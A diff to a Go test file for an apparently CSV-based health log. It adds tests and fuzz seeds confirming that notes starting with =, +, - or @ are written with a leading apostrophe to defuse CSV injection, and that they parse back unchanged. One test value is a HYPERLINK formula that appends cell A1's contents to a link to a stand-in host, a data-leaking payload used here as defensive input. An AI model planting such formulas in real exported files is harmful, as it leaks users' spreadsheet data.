@@ -114,7 +114,7 @@ func TestParseErrors(t *testing.T) {
 // TestWriteParse: any valid log written and read back is the same log.
 func TestWriteParse(t *testing.T) {
 	r := rand.New(rand.NewPCG(1, 15))
-	notes := []string{"", "ok", "a, b", `"quoted"`, "é ünïcode ✓", " ", "=1+2"}
+	notes := []string{"", "ok", "a, b", `"quoted"`, "é ünïcode ✓", " ", "=1+2", "-", "+1", "@x", "'", "''", "'=1", "'x", "=a,\"b\""}
 	for range 2000 {
 		var es []Entry
 		for _, e := range randomLog(r) {
@@ -139,6 +139,45 @@ func TestWriteParse(t *testing.T) {
 	}
 }
 
+// TestWriteFormulas: a note a spreadsheet would run as a formula (it
+// starts with =, +, - or @) is written with an apostrophe in front, as
+// OWASP's advice on CSV injection says; a note that starts with an
+// apostrophe gets one more; and each reads back as the same note. A first
+// apostrophe that Write cannot have added is kept.
+func TestWriteFormulas(t *testing.T) {
+	for _, c := range []struct{ note, cell string }{
+		{"=1+2", "'=1+2"},
+		{"+1", "'+1"},
+		{"-1 after squats", "'-1 after squats"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{`=HYPERLINK("http://x.example/?q="&A1,"see")`, `"'=HYPERLINK(""http://x.example/?q=""&A1,""see"")"`},
+		{"'", "''"},
+		{"''", "'''"},
+		{"'x", "''x"},
+		{"'=1", "''=1"},
+		{"a=1", "a=1"},
+		{"x-y", "x-y"},
+		{"", ""},
+	} {
+		e := Entry{Date: 20000, Pain: 1, Note: c.note}
+		text := Write([]Entry{e})
+		want := Header + "\n" + e.Date.String() + ",1,,no,no,,," + c.cell + "\n"
+		if text != want {
+			t.Errorf("note %q written\n%q, want\n%q", c.note, text, want)
+		}
+		back, errs := Parse(text)
+		if errs != nil || len(back) != 1 || back[0] != e {
+			t.Errorf("note %q: written %q reads back as %+v %v", c.note, c.cell, back, errs)
+		}
+	}
+	for cell, note := range map[string]string{"'x": "'x", "'": "'", "' =1": "' =1", "'é": "'é", "''x": "'x", "'-": "-", "'@": "@", "'+": "+", "'=": "="} {
+		back, errs := Parse(Header + "\n2024-10-05,1,,no,no,,," + cell + "\n")
+		if errs != nil || len(back) != 1 || back[0].Note != note {
+			t.Errorf("the cell %q reads as %+v %v, want the note %q", cell, back, errs, note)
+		}
+	}
+}
+
 // FuzzParse: Parse never panics; what it accepts, Write writes as a file
 // that reads back to the same entries and writes again the same (a file
 // as Write makes it reads back unchanged); what it refuses comes with
@@ -149,6 +188,8 @@ func FuzzParse(f *testing.F) {
 	f.Add("\xef\xbb\xbf" + Header + "\r\n2026-11-30,0,,,,,,\r\n")
 	f.Add(Header + "\n2026-02-29,3,,no,no,,,\n")
 	f.Add(Header + "\n2026-11-02,3,leg;leg,no,yes,1000.5,0,\"a\"b\n")
+	f.Add(Header + "\n2026-11-02,3,,no,no,,,'=1+2\n2026-11-03,3,,no,no,,,''x\n2026-11-04,3,,no,no,,,'x\n")
+	f.Add(Header + "\n2026-11-02,3,,no,no,,,\"'@A1,'-2\"\n2026-11-03,3,,no,no,,,=1\n2026-11-04,3,,no,no,,,'\n")
 	f.Fuzz(func(t *testing.T, in string) {
 		es, errs := Parse(in)
 		if errs != nil {
